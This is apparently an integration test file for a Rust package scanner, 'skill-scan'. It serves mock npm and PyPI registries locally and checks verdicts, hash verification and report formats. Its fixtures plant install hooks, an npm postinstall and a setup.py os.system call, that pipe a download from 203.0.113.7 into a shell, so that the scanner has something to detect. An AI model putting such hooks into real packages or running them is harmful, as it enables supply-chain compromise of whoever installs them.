#![allow(clippy::unwrap_used)]
//! Registry targets against a mock registry this test serves on 127.0.0.1 (metadata JSON and archives built
//! here), plus one ignored test against the real npm registry and PyPI.

use base64::Engine;
use sha2::{Digest, Sha256, Sha512};
use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

type Routes = HashMap<String, (u16, Vec<u8>)>;

/// Serves `routes` (path → status, body) over plain HTTP on `listener`, one thread per connection.
fn serve(listener: TcpListener, routes: Routes) {
    std::thread::spawn(move || {
        let routes = std::sync::Arc::new(routes);
        for stream in listener.incoming() {
            let Ok(stream) = stream else { continue };
            let routes = routes.clone();
            std::thread::spawn(move || answer(stream, &routes));
        }
    });
}

fn answer(mut stream: TcpStream, routes: &Routes) {
    let mut request = Vec::new();
    let mut buf = [0u8; 1024];
    while !request.windows(4).any(|w| w == b"\r\n\r\n") && request.len() < 64 << 10 {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&request);
    let path = text.split_whitespace().nth(1).unwrap_or("/").to_string();
    let (status, body) = routes
        .get(&path)
        .cloned()
        .unwrap_or((404, b"{\"error\":\"Not found\"}".to_vec()));
    let head = format!(
        "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(&body);
}

fn listener() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    (listener, base)
}

/// RFC 3339 for `secs` since the epoch (UTC), as registries write it.
fn rfc3339(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}.000Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

fn tar_gz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for (name, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, *data).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn integrity(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(Sha512::digest(bytes))
    )
}

/// Runs skill-scan in an empty folder with an empty home, so no real `.npmrc` or pip config is read.
fn skill_scan(env: &[(&str, &str)], args: &[&str]) -> (Output, Duration) {
    let home = tempfile::tempdir().unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_skill-scan"));
    command
        .args(args)
        .current_dir(home.path())
        .env("HOME", home.path())
        .env_remove("npm_config_registry")
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("PIP_INDEX_URL")
        .env_remove("PIP_CONFIG_FILE");
    for (key, value) in env {
        command.env(key, value);
    }
    let start = Instant::now();
    let output = command.output().unwrap();
    (output, start.elapsed())
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

const BENIGN_MANIFEST: &[u8] = br#"{"name": "evil-pkg", "version": "1.0.0", "main": "index.js"}"#;
const HOOKED_MANIFEST: &[u8] = br#"{"name": "evil-pkg", "version": "1.1.0", "main": "index.js",
  "scripts": {"postinstall": "curl -s http://203.0.113.7/x.sh | sh"}}"#;

/// A mock npm registry with `evil-pkg` 1.0.0 (old, harmless) and 1.1.0 (ten minutes old, with a
/// postinstall that pipes a download into a shell). `tamper` serves 1.1.0 with a hash of other bytes.
fn npm_registry(tamper: bool) -> (String, Vec<u8>) {
    let (listener, base) = listener();
    let old = tar_gz(&[
        ("package/package.json", BENIGN_MANIFEST),
        ("package/index.js", b"module.exports = 1;\n"),
    ]);
    let new = tar_gz(&[
        ("package/package.json", HOOKED_MANIFEST),
        ("package/index.js", b"module.exports = 1;\n"),
    ]);
    let new_integrity = if tamper {
        integrity(b"something else")
    } else {
        integrity(&new)
    };
    let document = serde_json::json!({
        "name": "evil-pkg",
        "dist-tags": {"latest": "1.1.0"},
        "time": {
            "created": "2015-03-01T00:00:00.000Z",
            "1.0.0": "2015-03-01T00:00:00.000Z",
            "1.1.0": rfc3339(now() - 600)
        },
        "versions": {
            "1.0.0": {"name": "evil-pkg", "version": "1.0.0",
                      "_npmUser": {"name": "alice"},
                      "dist": {"tarball": format!("{base}/evil-pkg/-/evil-pkg-1.0.0.tgz"),
                               "integrity": integrity(&old)}},
            "1.1.0": {"name": "evil-pkg", "version": "1.1.0",
                      "_npmUser": {"name": "alice"},
                      "scripts": {"postinstall": "curl -s http://203.0.113.7/x.sh | sh"},
                      "dist": {"tarball": format!("{base}/evil-pkg/-/evil-pkg-1.1.0.tgz"),
                               "integrity": new_integrity}}
        }
    });
    let mut routes = Routes::new();
    routes.insert("/evil-pkg".into(), (200, document.to_string().into_bytes()));
    routes.insert("/evil-pkg/-/evil-pkg-1.0.0.tgz".into(), (200, old));
    routes.insert("/evil-pkg/-/evil-pkg-1.1.0.tgz".into(), (200, new.clone()));
    serve(listener, routes);
    (base, new)
}

#[test]
fn an_npm_release_is_downloaded_verified_scanned_and_compared_with_the_previous_one() {
    let (base, archive) = npm_registry(false);
    let env = [("npm_config_registry", base.as_str())];
    let (out, _) = skill_scan(&env, &["npm:evil-pkg@1.1.0", "--diff-previous"]);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}{}", text(&out.stderr));
    assert!(stdout.contains("verdict: BLOCK"), "{stdout}");
    assert!(
        stdout.contains(&format!("sha256: {}", sha256_hex(&archive))),
        "{stdout}"
    );
    assert!(stdout.contains("archive: evil-pkg-1.1.0.tgz"), "{stdout}");
    assert!(
        stdout.contains("from: npm evil-pkg 1.1.0, published"),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("matches the registry's {}", integrity(&archive))),
        "{stdout}"
    );
    // The registry signals: published minutes ago, and an install script the previous version lacked.
    assert!(stdout.contains("REG001"), "{stdout}");
    assert!(stdout.contains("minute(s) ago"), "{stdout}");
    assert!(stdout.contains("REG003"), "{stdout}");
    assert!(
        !stdout.contains("REG002"),
        "an old package is not young: {stdout}"
    );
    assert!(stdout.contains("SUP003"), "{stdout}");
    assert!(
        stdout.contains("compared with 1.0.0 (verdict allow"),
        "{stdout}"
    );
}

#[test]
fn json_output_carries_the_registry_origin_and_the_latest_version_is_the_default() {
    let (base, archive) = npm_registry(false);
    let env = [("npm_config_registry", base.as_str())];
    let (out, _) = skill_scan(&env, &["npm:evil-pkg", "--format", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let origin = &json["targets"][0]["origin"];
    assert_eq!(json["targets"][0]["target"], "npm:evil-pkg");
    assert_eq!(origin["sha256"], sha256_hex(&archive));
    assert_eq!(origin["archive"], "evil-pkg-1.1.0.tgz");
    assert_eq!(origin["stripped_prefix"], "package");
    assert_eq!(origin["registry"]["version"], "1.1.0");
    assert_eq!(origin["registry"]["verified"], integrity(&archive));
}

#[test]
fn sarif_of_a_registry_package_fingerprints_every_result_from_the_downloaded_bytes() {
    let (base, _) = npm_registry(false);
    let env = [("npm_config_registry", base.as_str())];
    let (out, _) = skill_scan(&env, &["npm:evil-pkg@1.1.0", "--format", "sarif"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let log: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(results.len() >= 3, "{results:?}");
    let hashes = skill_scan::model::line_hashes(HOOKED_MANIFEST);
    let mut on_the_manifest = 0;
    let mut ids: Vec<&str> = results
        .iter()
        .map(|r| r["ruleId"].as_str().unwrap())
        .collect();
    ids.sort_unstable();
    ids.dedup();
    assert!(
        ids.contains(&"REG001") && ids.contains(&"REG003"),
        "{ids:?}"
    );
    // Every id a registry target's SARIF names, the registry's own included, is explainable.
    for id in ids {
        let (explained, _) = skill_scan(&[], &["explain", id]);
        assert_eq!(explained.status.code(), Some(0), "{id}");
        assert!(text(&explained.stdout).starts_with(id.split('/').next().unwrap()));
    }
    for result in results {
        let hash = result["partialFingerprints"]["primaryLocationLineHash"]
            .as_str()
            .unwrap_or_else(|| panic!("no fingerprint: {result}"));
        let location = &result["locations"][0]["physicalLocation"];
        if location["artifactLocation"]["uri"] == "package.json" {
            let line = location["region"]["startLine"].as_u64().unwrap() as usize;
            assert_eq!(hash, hashes[line - 1], "{result}");
            on_the_manifest += 1;
        }
    }
    assert!(on_the_manifest > 0, "{results:?}");
}

#[test]
fn diff_previous_on_a_first_version_says_there_is_nothing_to_compare() {
    let (base, _) = npm_registry(false);
    let env = [("npm_config_registry", base.as_str())];
    let (out, _) = skill_scan(
        &env,
        &["npm:evil-pkg@1.0.0", "--diff-previous", "--format", "json"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let target = &json["targets"][0];
    assert_eq!(target["verdict"], "allow");
    assert!(target["origin"]["registry"].get("previous").is_none());
    assert_eq!(
        target["diagnostics"][0]["message"],
        "--diff-previous: there is no earlier version to compare with"
    );
}

fn one_line_error(out: &Output) -> String {
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    stderr
}

#[test]
fn a_download_that_does_not_match_the_published_hash_is_not_scanned() {
    let (base, _) = npm_registry(true);
    let (out, _) = skill_scan(&[("npm_config_registry", &base)], &["npm:evil-pkg@1.1.0"]);
    let stderr = one_line_error(&out);
    assert!(
        stderr.contains("does not match the registry's published hash"),
        "{stderr}"
    );
    assert!(stderr.contains("not scanned"), "{stderr}");
    assert!(out.stdout.is_empty());
}

#[test]
fn missing_packages_and_versions_are_one_line_errors() {
    let (base, _) = npm_registry(false);
    let env = [("npm_config_registry", base.as_str())];
    let (out, _) = skill_scan(&env, &["npm:no-such-pkg"]);
    assert!(one_line_error(&out).contains("no such package"));
    let (out, _) = skill_scan(&env, &["npm:evil-pkg@9.9.9"]);
    let stderr = one_line_error(&out);
    assert!(
        stderr.contains("no such version") && stderr.contains("latest is 1.1.0"),
        "{stderr}"
    );
    let (out, _) = skill_scan(&env, &["npm:Bad Name"]);
    assert!(one_line_error(&out).contains("not a valid npm package name"));
}

#[test]
fn the_npmrc_in_the_current_folder_names_the_registry() {
    let (base, _) = npm_registry(false);
    let project = tempfile::tempdir().unwrap();
    std::fs::write(project.path().join(".npmrc"), format!("registry={base}/\n")).unwrap();
    let home = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_skill-scan"))
        .args(["npm:evil-pkg@1.0.0", "-q"])
        .current_dir(project.path())
        .env("HOME", home.path())
        .env_remove("npm_config_registry")
        .env_remove("NPM_CONFIG_REGISTRY")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).starts_with("ALLOW"),
        "{}",
        text(&out.stdout)
    );
}

fn pypi_registry() -> (String, Vec<u8>, Vec<u8>) {
    let (listener, base) = listener();
    let sdist = tar_gz(&[
        ("evilpy-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: evilpy\nVersion: 1.0\n"),
        (
            "evilpy-1.0/setup.py",
            b"import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nsetup(name='evilpy', version='1.0')\n",
        ),
    ]);
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    writer
        .start_file(
            "evilpy/__init__.py",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
    writer.write_all(b"VERSION = '1.0'\n").unwrap();
    writer
        .start_file(
            "evilpy-1.0.dist-info/METADATA",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
    writer
        .write_all(b"Metadata-Version: 2.1\nName: evilpy\nVersion: 1.0\n")
        .unwrap();
    let wheel = writer.finish().unwrap().into_inner();
    let file = |name: &str, kind: &str, bytes: &[u8]| {
        serde_json::json!({"filename": name, "packagetype": kind,
            "url": format!("{base}/packages/{name}"),
            "digests": {"sha256": sha256_hex(bytes)},
            "upload_time_iso_8601": "2019-01-01T00:00:00.000000Z"})
    };
    let document = serde_json::json!({
        "info": {"name": "evilpy", "version": "1.0"},
        "releases": {"1.0": [
            file("evilpy-1.0-py3-none-any.whl", "bdist_wheel", &wheel),
            file("evilpy-1.0.tar.gz", "sdist", &sdist)
        ]}
    });
    let mut routes = Routes::new();
    routes.insert(
        "/pypi/evilpy/json".into(),
        (200, document.to_string().into_bytes()),
    );
    routes.insert("/packages/evilpy-1.0.tar.gz".into(), (200, sdist.clone()));
    routes.insert(
        "/packages/evilpy-1.0-py3-none-any.whl".into(),
        (200, wheel.clone()),
    );
    serve(listener, routes);
    (base, sdist, wheel)
}

#[test]
fn a_pypi_sdist_is_preferred_and_a_wheel_chosen_on_request() {
    let (base, sdist, wheel) = pypi_registry();
    let index = format!("{base}/simple/");
    let env = [("PIP_INDEX_URL", index.as_str())];
    let (out, _) = skill_scan(&env, &["pypi:evilpy==1.0"]);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}{}", text(&out.stderr));
    assert!(stdout.contains("archive: evilpy-1.0.tar.gz"), "{stdout}");
    assert!(
        stdout.contains(&format!("sha256: {}", sha256_hex(&sdist))),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("sha256:{}", sha256_hex(&sdist))),
        "{stdout}"
    );
    assert!(
        stdout.contains("paths shown without its evilpy-1.0/ folder"),
        "{stdout}"
    );

    let (out, _) = skill_scan(&env, &["pypi:evilpy", "--wheel", "-q"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // A wheel has no setup.py or pyproject.toml; its `*.dist-info/METADATA` says it is a PyPI package.
    assert!(
        text(&out.stdout).contains("(pypi)"),
        "{}",
        text(&out.stdout)
    );
    let (out, _) = skill_scan(&env, &["pypi:evilpy", "--wheel", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        json["targets"][0]["origin"]["archive"],
        "evilpy-1.0-py3-none-any.whl"
    );
    assert_eq!(json["targets"][0]["origin"]["sha256"], sha256_hex(&wheel));
}

#[test]
fn a_registry_that_never_answers_times_out_with_one_line() {
    let (listener, base) = listener();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming() {
            held.push(stream); // accept, read nothing, answer nothing
        }
    });
    let env = [("npm_config_registry", base.as_str())];
    let (out, took) = skill_scan(&env, &["npm:evil-pkg", "--registry-timeout", "1"]);
    let stderr = one_line_error(&out);
    assert!(stderr.contains("timed out"), "{stderr}");
    assert!(took < Duration::from_secs(10), "{took:?}");
}

#[test]
fn an_unreachable_registry_is_one_line_error() {
    let (listener, base) = listener();
    drop(listener);
    let (out, _) = skill_scan(
        &[("PIP_INDEX_URL", &format!("{base}/simple"))],
        &["pypi:evilpy"],
    );
    let stderr = one_line_error(&out);
    assert!(
        stderr.contains("offline") || stderr.contains("refused"),
        "{stderr}"
    );
}

#[test]
fn many_targets_from_a_file_each_get_a_verdict_and_the_worst_sets_the_exit_code() {
    let (base, _) = npm_registry(false);
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("ok");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("index.js"), "module.exports = 1;\n").unwrap();
    let archive = dir.path().join("ok.tgz");
    std::fs::write(
        &archive,
        tar_gz(&[("package/index.js", b"module.exports = 2;\n")]),
    )
    .unwrap();
    let list = dir.path().join("targets.txt");
    std::fs::write(
        &list,
        format!(
            "# what we are about to install\n{}\n\n{}\nnpm:evil-pkg@1.1.0\n",
            folder.display(),
            archive.display()
        ),
    )
    .unwrap();
    let env = [("npm_config_registry", base.as_str())];
    let list_arg = list.to_str().unwrap();
    let (out, _) = skill_scan(&env, &["--from-file", list_arg, "--format", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let verdicts: Vec<(&str, &str)> = json["targets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["target"].as_str().unwrap(),
                t["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(verdicts.len(), 3, "{verdicts:?}");
    assert_eq!(verdicts[0].1, "allow");
    assert_eq!(verdicts[1].1, "allow");
    assert_eq!(verdicts[2], ("npm:evil-pkg@1.1.0", "block"));

    let (out, _) = skill_scan(&env, &["--from-file", list_arg, "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let targets = sarif["runs"][0]["properties"]["targets"]
        .as_array()
        .unwrap();
    assert_eq!(targets.len(), 3);
    assert_eq!(targets[2]["uriPrefix"], "npm/evil-pkg@1.1.0");

    // One failing target fails the run (exit 2) but the others are still reported.
    std::fs::write(&list, format!("{}\nnpm:no-such-pkg\n", folder.display())).unwrap();
    let (out, _) = skill_scan(&env, &["--from-file", list_arg, "-q"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stdout).starts_with("ALLOW"),
        "{}",
        text(&out.stdout)
    );
    assert!(text(&out.stderr).contains("no such package"));
    let (out, _) = skill_scan(&env, &["--from-file", "/no/such/list.txt"]);
    assert!(one_line_error(&out).contains("cannot read the target list"));
}

/// The issue's "done when": both real registries, from a fresh machine. Run by hand:
/// `cargo test -p skill-scan --test registry -- --ignored --nocapture`.
#[test]
#[ignore = "downloads from the real npm registry and PyPI"]
fn real_registries_give_a_verdict_and_the_archive_hash() {
    for target in ["npm:express@4.21.2", "pypi:requests==2.32.3"] {
        let home = tempfile::tempdir().unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_skill-scan"))
            .arg(target)
            .current_dir(Path::new(home.path()))
            .env("HOME", home.path())
            .env_remove("npm_config_registry")
            .env_remove("NPM_CONFIG_REGISTRY")
            .env_remove("PIP_INDEX_URL")
            .output()
            .unwrap();
        let stdout = text(&out.stdout);
        println!("$ skill-scan {target}\n{stdout}{}", text(&out.stderr));
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "{}",
            text(&out.stderr)
        );
        assert!(stdout.contains("verdict: "), "{stdout}");
        assert!(stdout.contains("sha256: "), "{stdout}");
    }
}
